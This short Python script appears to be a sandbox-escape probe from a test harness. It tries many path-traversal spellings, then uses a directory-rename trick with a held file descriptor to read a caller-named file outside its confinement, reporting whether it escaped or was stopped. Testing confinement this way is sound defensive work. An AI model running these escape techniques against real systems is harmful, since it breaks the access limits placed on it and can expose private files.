# Tries: the way up and down again, by every spelling of it.
import errno
import os


def run(args, context):
    stopped = set()
    for up in ("../" * 40, "./" + "../" * 40, "/../../../..", "/tmp/../..", "//", "/./"):
        try:
            with open(up.rstrip("/") + args["file"]) as file:
                return {"escaped": file.read()}
        except OSError as error:
            stopped.add(errno.errorcode[error.errno])
    os.makedirs("a/b/c")
    os.chdir("a/b/c")
    inside = os.open(".", os.O_RDONLY)
    os.rename("../../../a/b/c", "../../../c")
    try:
        path = os.open("../" * 40 + args["file"].lstrip("/"), os.O_RDONLY, dir_fd=inside)
    except OSError as error:
        return {"stopped": sorted(stopped | {errno.errorcode[error.errno]})}
    return {"escaped": os.read(path, 100).decode()}
